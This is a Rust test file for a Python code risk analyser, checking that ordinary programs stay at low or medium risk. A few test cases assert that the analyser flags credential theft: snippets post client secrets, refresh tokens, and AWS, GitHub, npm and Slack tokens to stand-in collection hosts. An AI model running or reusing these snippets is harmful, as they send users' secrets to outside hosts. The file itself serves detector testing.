//! Ordinary programs that must stay LOW (and one deliberate network program at MEDIUM).

use super::*;

#[track_caller]
fn stays_low(source: &str) {
    level(Level::Low, source);
}

#[test]
fn csv_report() {
    // Reading and summarising a CSV file in the working directory is LOW.
    stays_low(
        "import csv\nfrom collections import defaultdict\n\ntotals = defaultdict(float)\nwith open('sales.csv', newline='') as f:\n    for row in csv.DictReader(f):\n        totals[row['region']] += float(row['amount'])\nfor region, total in sorted(totals.items()):\n    print(f'{region:10} {total:12.2f}')\n",
    );
}

#[test]
fn json_transform() {
    // Loading, filtering and writing JSON locally is LOW.
    stays_low(
        "import json\nfrom pathlib import Path\n\ndata = json.loads(Path('input.json').read_text())\nactive = [u for u in data['users'] if u.get('active')]\nPath('out').mkdir(exist_ok=True)\nPath('out/active.json').write_text(json.dumps(active, indent=2))\n",
    );
}

#[test]
fn numerics() {
    // Pure numerics with math and statistics is LOW.
    stays_low(
        "import math, statistics\n\ndef newton(f, df, x, steps=50):\n    for _ in range(steps):\n        x = x - f(x) / df(x)\n    return x\n\nroot = newton(lambda x: x * x - 2, lambda x: 2 * x, 1.0)\nsamples = [math.sin(i / 10) for i in range(100)]\nprint(root, statistics.mean(samples), statistics.stdev(samples))\n",
    );
}

#[test]
fn text_processing() {
    // Regex word counting is LOW.
    stays_low(
        "import re\nfrom collections import Counter\n\ntext = open('book.txt', encoding='utf-8').read().lower()\nwords = re.findall(r\"[a-z']+\", text)\nfor word, count in Counter(words).most_common(20):\n    print(word, count)\n",
    );
}

#[test]
fn classes_and_dataclasses() {
    // Ordinary classes, dataclasses and properties are LOW.
    stays_low(
        "from dataclasses import dataclass, field\n\n@dataclass\nclass Account:\n    owner: str\n    balance: float = 0.0\n    history: list = field(default_factory=list)\n\n    def deposit(self, amount):\n        if amount <= 0:\n            raise ValueError('positive only')\n        self.balance += amount\n        self.history.append(('deposit', amount))\n\nclass Bank:\n    def __init__(self):\n        self.accounts = {}\n\n    def open(self, owner):\n        self.accounts[owner] = Account(owner)\n        return self.accounts[owner]\n\nb = Bank()\nb.open('ann').deposit(10)\n",
    );
}

#[test]
fn threads_and_executors() {
    // Threads, locks and a thread pool are LOW.
    stays_low(
        "import threading\nfrom concurrent.futures import ThreadPoolExecutor\n\nlock = threading.Lock()\ncounter = 0\n\ndef work(n):\n    global counter\n    with lock:\n        counter += n\n    return n * n\n\nwith ThreadPoolExecutor(max_workers=4) as pool:\n    results = list(pool.map(work, range(100)))\nt = threading.Thread(target=work, args=(1,))\nt.start(); t.join()\nprint(counter, sum(results))\n",
    );
}

#[test]
fn python_subprocess() {
    // Running the interpreter itself with an argv list is LOW.
    stays_low(
        "import subprocess, sys\nout = subprocess.run([sys.executable, '-c', 'print(42)'], capture_output=True, text=True, check=True)\nprint(out.stdout.strip())\n",
    );
}

#[test]
fn sqlite_in_memory() {
    // An in-memory sqlite database is LOW.
    stays_low(
        "import sqlite3\ncon = sqlite3.connect(':memory:')\ncon.execute('create table t (k text, v int)')\ncon.executemany('insert into t values (?, ?)', [('a', 1), ('b', 2)])\nprint(con.execute('select sum(v) from t').fetchone())\n",
    );
}

#[test]
fn tmp_and_working_dir_files() {
    // Creating and deleting files in /tmp and the working directory is LOW.
    stays_low(
        "import os, shutil, tempfile\nwork = tempfile.mkdtemp()\nwith open(os.path.join(work, 'a.txt'), 'w') as f:\n    f.write('hello')\nshutil.copy(os.path.join(work, 'a.txt'), 'b.txt')\nos.remove('b.txt')\nshutil.rmtree(work)\nshutil.rmtree('/tmp/scratch', ignore_errors=True)\nos.makedirs('results/plots', exist_ok=True)\n",
    );
}

#[test]
fn argparse_and_logging() {
    // A CLI skeleton with argparse and logging is LOW.
    stays_low(
        "import argparse, logging\nlogging.basicConfig(level=logging.INFO)\nlog = logging.getLogger(__name__)\n\ndef main():\n    p = argparse.ArgumentParser()\n    p.add_argument('--n', type=int, default=3)\n    args = p.parse_args([])\n    for i in range(args.n):\n        log.info('step %d', i)\n\nif __name__ == '__main__':\n    main()\n",
    );
}

#[test]
fn dates_and_random() {
    // datetime arithmetic and seeded randomness are LOW.
    stays_low(
        "import datetime as dt\nimport random\nrandom.seed(7)\nstart = dt.date(2024, 1, 1)\ndays = [start + dt.timedelta(days=random.randint(0, 365)) for _ in range(10)]\nprint(sorted(days)[0].isoformat())\n",
    );
}

#[test]
fn hashing_with_sha256_and_env_reads() {
    // sha256 checksums and reading HOME from the environment are LOW.
    stays_low(
        "import hashlib, os\nhome = os.environ.get('HOME', '/work')\nh = hashlib.sha256()\nwith open('data.bin', 'rb') as f:\n    for chunk in iter(lambda: f.read(65536), b''):\n        h.update(chunk)\nprint(home, h.hexdigest())\n",
    );
}

#[test]
fn generators_and_itertools() {
    // Generators, itertools and functools are LOW.
    stays_low(
        "import itertools, functools\n\ndef primes():\n    seen = []\n    for n in itertools.count(2):\n        if all(n % p for p in seen):\n            seen.append(n)\n            yield n\n\n@functools.lru_cache(maxsize=None)\ndef fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\n\nprint(list(itertools.islice(primes(), 10)), fib(30))\n",
    );
}

#[test]
fn string_formatting_and_eval_of_literals() {
    // f-strings, %-formatting, str.format and ast.literal_eval are LOW.
    stays_low(
        "import ast\nname = 'world'\nprint(f'hello {name}', 'x=%d' % 3, '{}-{}'.format(1, 2))\ncfg = ast.literal_eval(\"{'a': 1}\")\nprint(cfg['a'])\n",
    );
}

#[test]
fn async_code() {
    // asyncio with gather and sleep is LOW.
    stays_low(
        "import asyncio\n\nasync def job(i):\n    await asyncio.sleep(0.01)\n    return i * 2\n\nasync def main():\n    return await asyncio.gather(*(job(i) for i in range(5)))\n\nprint(asyncio.run(main()))\n",
    );
}

#[test]
fn deliberate_network_is_medium_not_more() {
    // Fetching a public API is MEDIUM network access, nothing worse.
    level(
        Level::Medium,
        "import requests\nr = requests.get('https://api.example.com/items', timeout=5)\nr.raise_for_status()\nfor item in r.json():\n    print(item['name'])\n",
    );
}

#[test]
fn compiled_constant_formulas_are_not_run_time_code() {
    // compile() of a constant, kept in a dict built by a comprehension, then eval'd: the
    // code is known, so it is analysed rather than flagged as run-time code.
    level(
        Level::Low,
        "F = {'a': '2 * r'}\nc = {k: compile(v, k, 'eval') for k, v in F.items()}\nfor k, code in c.items():\n    print(eval(code, {'r': 3}))\n",
    );
}

#[test]
fn an_api_key_presented_where_a_request_authenticates_is_network_not_exfiltration() {
    // A key from the environment in query parameters, the URL, urllib's headers or an
    // SMTP login is the program authenticating: MEDIUM for the network, nothing more.
    for src in [
        "import os, requests\nrequests.get('https://api.weather.example/v2', params={'q': 'Oslo', 'appid': os.environ['WEATHER_API_KEY']})\n",
        "import os, requests\nkey = os.environ.get('MAPS_API_KEY')\nrequests.get(f'https://maps.example/geocode?address=x&key={key}')\n",
        "import os, json, urllib.request\nreq = urllib.request.Request('https://api.llm.example/v1', data=json.dumps({'q': 1}).encode(), headers={'x-api-key': os.environ['LLM_API_KEY']})\nprint(urllib.request.urlopen(req).read())\n",
        "import os, smtplib\nwith smtplib.SMTP('smtp.example.com', 587) as s:\n    s.starttls()\n    s.login(os.environ['SMTP_USER'], os.environ['SMTP_PASSWORD'])\n    s.sendmail('a@example.com', ['b@example.com'], 'report ready')\n",
    ] {
        level(Level::Medium, src);
    }
}

#[test]
fn an_oauth_token_request_is_one_login() {
    // RFC 6749: the client's secret and a refresh token (or a password) posted with a
    // `grant_type` to the token endpoint are the program signing in, not a harvest.
    for src in [
        "import os, requests\ndata = {'client_id': os.environ['G_CLIENT_ID'], 'client_secret': os.environ['G_CLIENT_SECRET'], 'refresh_token': os.environ['G_REFRESH_TOKEN'], 'grant_type': 'refresh_token'}\ntok = requests.post('https://oauth2.example.com/token', data=data).json()['access_token']\n",
        "import os, httpx\nr = httpx.post('https://login.example.com/oauth/token', json={'grant_type': 'password', 'username': os.environ['APP_USER'], 'password': os.environ['APP_PASSWORD'], 'client_secret': os.environ['APP_CLIENT_SECRET']})\n",
    ] {
        level(Level::Medium, src);
    }
    // The same credentials in a body without a grant, or sent to a bare address, leak.
    fires(
        "CRD109",
        "import os, requests\nrequests.post('https://collect.example/t', data={'s': os.environ['G_CLIENT_SECRET'], 'r': os.environ['G_REFRESH_TOKEN']})\n",
    );
    fires(
        "CRD109",
        "import os, requests\nrequests.post('https://198.51.100.4/token', data={'grant_type': 'x', 's': os.environ['G_CLIENT_SECRET'], 'r': os.environ['G_REFRESH_TOKEN']})\n",
    );
    // Four services' tokens with a `grant_type` beside them are still a harvest.
    fires(
        "CRD109",
        "import os, requests\nrequests.post('https://c.example.net/token', data={'grant_type': 'client_credentials', 'a': os.environ['AWS_SECRET_ACCESS_KEY'], 'b': os.environ['GITHUB_TOKEN'], 'c': os.environ['NPM_TOKEN'], 'd': os.environ['SLACK_TOKEN']})\n",
    );
}

#[test]
fn review_false_positives_stay_below_high() {
    // Found by review: a threaded merge sort, a pool walking a tree, a pyc clean-up with
    // find, a cache of /usr/share data, an S3 key and netrc/keyring credentials presented
    // to their own hosts are ordinary programs.
    for src in [
        "import threading\ndef merge_sort(a, out, i):\n    if len(a) > 1:\n        mid = len(a) // 2\n        left, right = [None], [None]\n        t1 = threading.Thread(target=merge_sort, args=(a[:mid], left, 0))\n        t2 = threading.Thread(target=merge_sort, args=(a[mid:], right, 0))\n        t1.start(); t2.start()\n        t1.join(); t2.join()\n        out[i] = sorted(left[0] + right[0])\n    else:\n        out[i] = a\nres = [None]\nmerge_sort([5, 3, 1, 4], res, 0)\n",
        "from concurrent.futures import ThreadPoolExecutor\npool = ThreadPoolExecutor(4)\ndef visit(node):\n    print(node.name)\n    for child in (node.left, node.right):\n        if child is not None:\n            pool.submit(visit, child)\n",
        "import subprocess\nsubprocess.run('find ~ -name \"*.pyc\" -delete', shell=True)\n",
        "import requests\nwords = open('/usr/share/dict/words').read().split()[:100]\nrequests.post('https://api.embed.example/v1', json={'input': words})\n",
        "import os, boto3\nkey = os.environ.get('S3_KEY', 'data/x.csv')\nboto3.client('s3').download_file('bucket', key, 'x.csv')\nimport requests\nrequests.post('https://hooks.example/done', json={'key': key})\n",
        "import netrc, requests\nlogin, _, password = netrc.netrc().authenticators('urs.earthdata.nasa.gov')\nrequests.get('https://urs.earthdata.nasa.gov/data/x.nc', auth=(login, password))\n",
        "import keyring, requests\ntoken = keyring.get_password('gh', 'me')\nrequests.get('https://api.github.com/user', headers={'Authorization': f'token {token}'})\n",
    ] {
        let assessment = external(src);
        assert!(assessment.level <= Level::High, "{src}");
        assert!(
            !rule_ids(&assessment).iter().any(|r| matches!(*r, "CRD109" | "CRD111" | "CRD104")),
            "{:?} for {src}",
            rule_ids(&assessment)
        );
    }
}

#[test]
fn a_token_set_on_a_session_or_a_websocket_authenticates() {
    // Headers set once for every request of a session, or given to a websocket's
    // handshake, present the program's credential to its own API.
    for source in [
        "import os, requests\ns = requests.Session()\ns.headers.update({'Authorization': f\"Bearer {os.environ['CRM_TOKEN']}\"})\nprint(s.get('https://crm.example/api/contacts').json())\n",
        "import asyncio, os, websockets\nasync def main():\n    async with websockets.connect('wss://feed.example/v1', additional_headers={'X-API-Key': os.environ.get('FEED_API_KEY', '')}) as ws:\n        print(await ws.recv())\nasyncio.run(main())\n",
    ] {
        silent("CRD109", source);
    }
}

#[test]
fn filtered_clean_ups_of_the_users_folders() {
    // A test on the name found (`endswith`, `==`, `.suffix ==`) narrows what is deleted.
    for src in [
        "import os\nd = os.path.expanduser('~/Desktop')\nfor name in os.listdir(d):\n    if name.endswith('.tmp'):\n        os.remove(os.path.join(d, name))\n",
        "import os\nfor root, dirs, files in os.walk(os.path.expanduser('~/Documents')):\n    for name in files:\n        if name == '.DS_Store':\n            os.remove(os.path.join(root, name))\n",
        "from pathlib import Path\nfor p in (Path.home() / 'Desktop').iterdir():\n    if p.suffix == '.log' and p.stat().st_size > 10_000_000:\n        p.unlink()\n",
    ] {
        silent("CRD104", src);
    }
}

#[test]
fn credentialed_clients_and_streams_are_not_secrets_or_bombs() {
    // Rows fetched with a database password written to CSV are not the password.
    silent(
        "CRD205",
        "import os, psycopg2\nconn = psycopg2.connect(password=os.environ['DB_PASSWORD'])\ncur = conn.cursor()\ncur.execute('select 1')\nwith open('out.csv', 'w') as f:\n    for row in cur.fetchall():\n        f.write(','.join(map(str, row)))\n",
    );
    // A fixed buffer streamed from a socket to a file grows nothing in memory.
    silent(
        "CRD112",
        "import socket\nbuf = bytearray(1 << 20)\nsock = socket.create_connection(('localhost', 9000))\nwhile True:\n    n = sock.recv_into(buf)\n    sock.sendall(buf[:n])\n",
    );
    // A seed mixed with XOR is a number, not a payload.
    silent(
        "CRD103",
        "import os, subprocess, time\nseed = int(time.time()) ^ os.getpid()\nsubprocess.run(['./simulate', '--seed', str(seed)])\n",
    );
}

#[test]
fn pre_forked_servers_and_well_known_package_hosts() {
    // Children that enter an endless accept loop never fork again.
    silent(
        "CRD111",
        "import os, socket\nsrv = socket.socket()\nsrv.bind(('127.0.0.1', 8080))\nsrv.listen()\ndef serve():\n    while True:\n        c, _ = srv.accept()\n        c.close()\nfor _ in range(16):\n    if os.fork() == 0:\n        serve()\nfor _ in range(16):\n    os.wait()\n",
    );
    // PyTorch's index and a GitHub repository are where such packages come from.
    silent(
        "CRD102",
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'torch', '--index-url', 'https://download.pytorch.org/whl/cpu'])\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'git+https://github.com/huggingface/transformers'])\n",
    );
}

#[test]
fn signalling_a_child_passed_to_a_helper_or_reading_ones_own_proc_status() {
    // The pid of a process the program started, handed to a function that stops it.
    level(
        Level::Low,
        "import os, signal, subprocess, sys\ndef start():\n    return subprocess.Popen([sys.executable, '-c', 'print(1)'], start_new_session=True)\ndef stop(child):\n    os.killpg(child.pid, signal.SIGTERM)\nstop(start())\n",
    );
    // Its own /proc entry through its pid.
    level(
        Level::Low,
        "import os\nfrom pathlib import Path\nprint(Path(f'/proc/{os.getpid()}/status').read_text())\n",
    );
}

#[test]
fn generators_that_end_or_wait_and_folders_removed_when_empty() {
    // A generator whose endless loop returns when its source runs out, or waits each pass.
    level(
        Level::Low,
        "import threading\ndef pairs(it):\n    while True:\n        try:\n            yield next(it), next(it)\n        except StopIteration:\n            return\nworkers = [threading.Thread(target=print, args=p) for p in pairs(iter(range(8)))]\nfor w in workers:\n    w.start()\nfor w in workers:\n    w.join()\n",
    );
    level(
        Level::Low,
        "import subprocess, time\ndef ticks():\n    while True:\n        time.sleep(60)\n        yield time.time()\nfor t in ticks():\n    subprocess.run(['date'])\n",
    );
    // An empty user folder removed, or a symlink to it unlinked, destroys nothing.
    level(
        Level::Low,
        "import os\nos.rmdir(os.path.expanduser('~/Desktop'))\nos.unlink(os.path.expanduser('~/Documents'))\n",
    );
}

#[test]
fn children_kept_in_lists_and_their_groups_are_the_programs_own() {
    stays_low(
        "import os, signal, subprocess, sys\nworkers = [subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(9)']) for _ in range(3)]\ndef stop(proc):\n    os.kill(proc.pid, signal.SIGTERM)\n    proc.wait()\nfor w in workers:\n    stop(w)\n",
    );
    stays_low(
        "import os, signal, subprocess\nproc = subprocess.Popen(['sleep', '30'], start_new_session=True)\ndef stop_group(p):\n    os.killpg(os.getpgid(p.pid), signal.SIGTERM)\n    p.wait()\nstop_group(proc)\n",
    );
}
#[test]
fn loops_that_grow_but_are_paced_or_bounded() {
    stays_low(
        "import asyncio\nlog = []\nasync def main(q):\n    while True:\n        log.append(await q.get())\n",
    );
    stays_low(
        "import collections, time\nrecent = collections.deque(maxlen=100)\nwhile True:\n    recent.append(time.time())\n",
    );
    stays_low(
        "import itertools\ndef squares():\n    seen = {}\n    for n in itertools.count():\n        seen[n] = n * n\n        yield seen[n]\nprint(list(itertools.islice(squares(), 5)))\n",
    );
    stays_low(
        "import sys\nlines = []\nwhile True:\n    line = sys.stdin.readline()\n    if not line:\n        break\n    lines.append(line)\nprint(len(lines))\n",
    );
    stays_low(
        "import json, socket\nmsg = {'jsonrpc': '2.0', 'id': 1, 'method': 'login', 'params': {'user': 'me', 'password': 'pw'}}\nprint(json.dumps(msg))\n",
    );
    // Two credentials joined are one login, sent to its own service.
    silent(
        "CRD109",
        "import os, requests\nuser, password = os.environ['SVC_USER'], os.environ['SVC_PASSWORD']\nrequests.get('https://api.example.com/v1/me', headers={'Authorization': ':'.join([user, password])})\n",
    );
    stays_low(
        "import os\nfor entry in os.scandir('.'):\n    if entry.name.endswith('.tmp'):\n        os.remove(entry.path)\n",
    );
}

#[test]
fn text_helpers_of_everyday_programs_stay_low() {
    // A usage text dedented, an instance printed through `__str__`, a numbered listing.
    level(
        Level::Low,
        "import textwrap\nUSAGE = textwrap.dedent('''\n    usage: tool [-v] FILE\n    ''')\nclass Point:\n    def __init__(self, x, y):\n        self.x, self.y = x, y\n    def __str__(self):\n        return f'({self.x}, {self.y})'\nprint(USAGE, str(Point(1, 2)), f'{Point(3, 4)}')\nfor i, line in enumerate(['a', 'b'], 1):\n    print(i, line)\n",
    );
}

#[test]
fn look_alikes_of_this_sessions_mechanisms_stay_below_high() {
    // A disk-usage check reads the mount table, as `df` does.
    level(
        Level::Low,
        "import shutil\nfor line in open('/proc/mounts'):\n    dev, mnt = line.split()[:2]\n    if dev.startswith('/dev/'):\n        print(mnt, shutil.disk_usage(mnt).free)\n",
    );
    // One named key presented to the SSH host it authenticates to.
    level(
        Level::Medium,
        "import os, paramiko\nt = paramiko.Transport(('backup.example.org', 22))\nkey = paramiko.Ed25519Key.from_private_key_file(os.path.expanduser('~/.ssh/id_backup'))\nt.connect(username='backup', pkey=key)\nsftp = paramiko.SFTPClient.from_transport(t)\nsftp.put('/tmp/site.tar.gz', '/backups/site.tar.gz')\n",
    );
    // A running total with `+=` on the program's own class, in a bounded loop; a config
    // helper filling the dict it is given; a project's own keystore file.
    level(
        Level::Low,
        "import json\nclass Total:\n    def __init__(self):\n        self.n = 0\n    def __iadd__(self, k):\n        self.n += k\n        return self\ndef defaults(cfg):\n    cfg['retries'] = 3\nt = Total()\nfor k in range(10):\n    t += k\ncfg = {}\ndefaults(cfg)\nprint(t.n, cfg, json.load(open('config/keystore.json')))\n",
    );
    // An installer script saved locally and only counted, not run.
    level(
        Level::Medium,
        "import subprocess, requests\nopen('/tmp/install.sh', 'wb').write(requests.get('https://get.example.net/install.sh').content)\nsubprocess.run(['wc', '-l', '/tmp/install.sh'])\n",
    );
}

#[test]
fn children_data_arguments_and_web_handlers_of_everyday_programs() {
    // Workers of its own stopped by pid; a request's file name given to a converter as
    // an argument (no shell, the program fixed).
    level(
        Level::Low,
        "import multiprocessing as mp, os, signal\ndef work(n):\n    pass\nprocs = [mp.Process(target=work, args=(i,)) for i in range(3)]\nfor p in procs:\n    p.start()\nfor p in procs:\n    os.kill(p.pid, signal.SIGTERM)\n",
    );
    level(
        Level::Low,
        "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/thumb')\ndef thumb():\n    subprocess.run(['convert', request.args.get('name', 'a.png'), '-resize', '64x64', 'out.png'])\n    return 'ok'\n",
    );
    // An unbounded deque is a list; one with `maxlen` keeps a window and never grows.
    level(
        Level::Low,
        "import collections, time\nwindow = collections.deque(maxlen=100)\nwhile True:\n    window.append(time.monotonic())\n    time.sleep(1)\n",
    );
}

#[test]
fn review_false_positives_of_this_sessions_mechanisms_stay_below_high() {
    // Found by review. Package signing keyrings and a book's "Exodus" folder are no
    // wallets; a serial port found in /dev is no disk; a request's upload handed to an
    // import script, and a job id to a worker script, are arguments.
    for src in [
        "print(open('/usr/share/keyrings/debian-archive-keyring.gpg', 'rb').read()[:4])\nprint(open('texts/Exodus/chapter01.txt').read())\n",
        "import os\nfor name in os.listdir('/dev'):\n    if name.startswith('ttyUSB'):\n        with open('/dev/' + name, 'wb') as port:\n            port.write(b'AT\\r')\n",
        "import os, subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/upload', methods=['POST'])\ndef upload():\n    path = os.path.join('/srv/uploads', 'latest.csv')\n    open(path, 'wb').write(request.get_data())\n    subprocess.run(['bash', 'import_csv.sh', path], check=True)\n    subprocess.run(['python3', 'worker.py', '--job', request.form['job']])\n    return 'ok'\n",
        // A helper that rebinds its parameter fills nothing of the caller's; two equal
        // empty lists are two lists.
        "import shutil\ndef collect(found):\n    found = ['/usr/share/doc']\n    return found\ndef stale(dirs):\n    dirs.append('/tmp/build-cache')\nkeep, old = [], []\ncollect(keep)\nstale(old)\nfor d in keep:\n    print(d)\nfor d in old:\n    shutil.rmtree(d)\n",
        // A key read by a terminal library waits for the user; so does a DNS lookup.
        "import msvcrt\nwith open('keys.log', 'a') as log:\n    while True:\n        log.write(msvcrt.getch().decode())\n",
        "import socket\nwith open('dns.log', 'a') as log:\n    while True:\n        for info in socket.getaddrinfo('example.com', 443):\n            log.write(str(info[4]) + '\\n')\n",
    ] {
        let assessment = external(src);
        assert!(
            assessment.level < Level::High,
            "{:?} for:\n{src}\n{:#?}",
            assessment.level,
            assessment.findings
        );
    }
    // A program's own pickled bytes loaded back; its own child's environment; a fetched
    // file written to a program that reads data from stdin; an iterator that stops.
    for src in [
        "import pickle\nclass Model:\n    w = [0.5]\nblob = pickle.dumps(Model())\nmodel = pickle.loads(blob)\nprint(model.w)\n",
        "import os, psutil\nme = psutil.Process(os.getpid())\nprint(me.environ().get('HOME'))\n",
        "import subprocess\nclass Batches:\n    def __init__(self, n):\n        self.i, self.n = 0, n\n    def __iter__(self):\n        return self\n    def __next__(self):\n        if self.i >= self.n:\n            raise StopIteration\n        self.i += 1\n        return subprocess.Popen(['true'])\nfor p in Batches(3):\n    p.wait()\n",
        "class Cache:\n    def __init__(self):\n        self.d = {}\n    def __setitem__(self, k, v):\n        with open('cache/' + k, 'w') as fh:\n            fh.write(v)\n    def __getitem__(self, k):\n        return open('cache/' + k).read()\nc = Cache()\nc['a'] = 'b'\nprint(c['a'])\n",
        // Iterators that run out by taking items (StopIteration, IndexError).
        "import threading\nclass Wrapper:\n    def __init__(self, it):\n        self._it = iter(it)\n    def __iter__(self):\n        return self\n    def __next__(self):\n        return next(self._it)\nfor i in Wrapper(range(5)):\n    threading.Thread(target=print, args=(i,)).start()\n",
        "class Pages:\n    def __init__(self, rows):\n        self.rows, self.i, self.out = rows, 0, []\n    def __iter__(self):\n        return self\n    def __next__(self):\n        row = self.rows[self.i]\n        self.i += 1\n        return row\nseen = []\nfor row in Pages([1, 2, 3]):\n    seen.append(row)\n",
        // Paths and formulas chosen from a dict by a run-time key.
        "import sys\nREPORTS = {'daily': 'out/daily.csv', 'weekly': 'out/weekly.csv'}\nwith open(REPORTS[sys.argv[1]], 'w') as fh:\n    fh.write('ok')\n",
        // A generic function whose handlers format values.
        "from functools import singledispatch\n@singledispatch\ndef show(x):\n    return repr(x)\n@show.register\ndef _(x: int):\n    return f'{x:,}'\n@show.register(list)\ndef _(x):\n    return ', '.join(show(i) for i in x)\nprint(show([1, 2000]))\n",
        // A `staticmethod()` call whose result is dropped changes no method.
        "import shutil\nclass Cache:\n    def clear(self, target):\n        shutil.rmtree(target)\nstaticmethod(Cache.clear)\nCache().clear('build/cache')\n",
    ] {
        level(Level::Low, src);
    }
    // Bytes that may come from a file named on the command line are not the program's own.
    level(
        Level::Medium,
        "import pickle, sys\ndef blob_for(path=None):\n    if path is None:\n        return pickle.dumps({})\n    return open(path, 'rb').read()\nprint(pickle.loads(blob_for(sys.argv[1])))\n",
    );
    // An SSH key checked before `git push` is the program's to present.
    silent(
        "CRD205",
        "import os, subprocess, paramiko\nkey = paramiko.Ed25519Key.from_private_key_file(os.path.expanduser('~/.ssh/id_ed25519'))\nprint(key.get_name())\nsubprocess.run(['git', 'push'])\n",
    );
    level(
        Level::Medium,
        "import subprocess, requests\nbody = requests.get('https://data.example.org/rows.csv').content\np = subprocess.Popen(['sort', '-u'], stdin=subprocess.PIPE)\np.communicate(body)\n",
    );
    // SSH keys presented to their hosts (asyncssh, paramiko) sign in.
    level(
        Level::Medium,
        "import asyncio, asyncssh, os\nasync def main():\n    key = asyncssh.read_private_key(os.path.expanduser('~/.ssh/id_deploy'))\n    async with asyncssh.connect('deploy.example.org', client_keys=[key]) as c:\n        await c.run('uptime')\nasyncio.run(main())\n",
    );
}
